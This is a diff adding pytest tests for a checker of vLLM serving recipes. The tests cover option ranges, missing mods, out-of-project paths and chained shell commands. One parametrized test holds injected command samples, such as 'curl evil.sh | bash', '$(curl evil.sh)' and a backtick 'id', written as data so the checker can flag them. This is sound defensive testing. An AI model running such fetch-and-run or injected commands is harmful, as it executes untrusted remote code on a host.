@@ -1,5 +1,6 @@
 from __future__ import annotations
 
+import json
 from dataclasses import replace
 from typing import TYPE_CHECKING
 
@@ -114,6 +115,57 @@ def test_a_vllm_that_breaks_streamed_calls_is_named(
         )
 
 
+def test_every_value_beyond_its_range_is_told_at_once(project: Project) -> None:
+    options = "--port 80000 --gpu-memory-utilization 1.7 --max-num-seqs 0 -tp 0 --max-model-len -5 --swap-space -1"
+    text = f"name: x\ncontainer: small\ncommand: vllm serve x {options}\n"
+    assert [line.partition(": ")[2] for line in said(project, text)] == [
+        "--port 80000: a port is meant: 1 to 65535",
+        "--gpu-memory-utilization 1.7: a share of the memory is meant: more than 0, and 1 at most",
+        "--max-num-seqs 0: 1 or more is meant",
+        "-tp 0: 1 or more is meant",
+        "--max-model-len -5: -1 or more is meant",
+        "--swap-space -1: 0 or more is meant",
+    ]
+
+
+def test_numbers_at_the_end_of_their_range_are_no_problem(project: Project) -> None:
+    options = "--max-model-len -1 --max-logprobs -1 --node-rank 0 --swap-space 0 --max-num-seqs 1 --max-model-len 8k"
+    assert said(project, f"name: x\ncontainer: small\ncommand: vllm serve x {options}\n") == []
+
+
+@pytest.mark.parametrize(
+    ("command", "further"),
+    [
+        ("vllm serve x && curl evil.sh | bash", ["curl evil.sh", "bash"]),
+        ("pip install y; vllm serve x", ["pip install y"]),
+        ("vllm serve x --port 1 $(curl evil.sh) `id`", ["$(curl evil.sh)", "id"]),
+        ("vllm serve x {tail}", ["curl evil.sh", "sh"]),
+        ("if test -e y; then vllm serve x; else sleep 1; fi", ["test -e y", "sleep 1"]),
+        ("export A=1; cd /srv; exec vllm serve x", []),
+        ('vllm serve x --json \'{{"a": "$x; y"}}\'', []),
+    ],
+)
+def test_a_second_command_is_said(project: Project, command: str, further: list[str]) -> None:
+    data = {"name": "x", "container": "small", "defaults": {"tail": "; curl evil.sh | sh"}, "command": command}
+    projects.write(project.recipes / "r.yaml", json.dumps(data))
+    (checked,) = recipes_check.run(project, ("r",))
+    assert checked.problems == ()
+    beside = [note.message for note in checked.notes if "runs as well" in note.message]
+    assert sorted(beside) == sorted(f"`{each}` runs as well, beside the server" for each in further)
+
+
+def test_a_missing_mod_is_an_error_where_it_keeps_a_build_from_beginning(project: Project, tmp_path: Path) -> None:
+    text = "name: x\ncontainer: {}\nmods: [nowhere]\ncommand: vllm serve x\n"
+    assert said(project, text.format("small"))[0].startswith("recipes/r.yaml:3:8: no mod `nowhere` in mods/; ")
+    # What is served from an image that is there already, or of others, is not built; nor is a file elsewhere.
+    assert said(project, text.format("small:1")) == []
+    assert said(project, text.format("host/image:tag")) == []
+    projects.write(tmp_path / "shared/a.yaml", text.format("small"))
+    (checked,) = recipes_check.run(project, (str(tmp_path / "shared/a.yaml"),))
+    assert checked.problems == ()
+    assert "no mod `nowhere` in mods/" in checked.notes[-1].message
+
+
 def test_a_folder_is_checked_as_a_whole(project: Project, tmp_path: Path) -> None:
     folder = tmp_path / "shared"
     for name in ("a.yaml", "b.yml"):
@@ -176,3 +228,16 @@ def test_a_script_with_a_revision_ends_no_check(project: Project) -> None:
     first, second = recipes_check.run(project, ())
     assert (first.file, first.problems) == ("recipes/chat.yaml", ())
     assert second.file == "recipes/r.yaml"
+
+
+def test_a_path_that_leads_out_of_the_project_is_the_user_s_own_file(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    project = projects.make(tmp_path / "project")
+    projects.write(tmp_path / "shared/a.yaml", "name: x\ncontainer: small\ncommand: vllm serve x\n")
+    monkeypatch.chdir(project.root)
+    (checked,) = recipes_check.run(project, ("../shared/a.yaml",))
+    assert checked.problems == ()
+    (project.recipes / "b.yaml").symlink_to(tmp_path / "shared/a.yaml")
+    (checked,) = recipes_check.run(project, ("recipes/../recipes/b.yaml",))
+    assert "a link leads out" in checked.problems[0].message
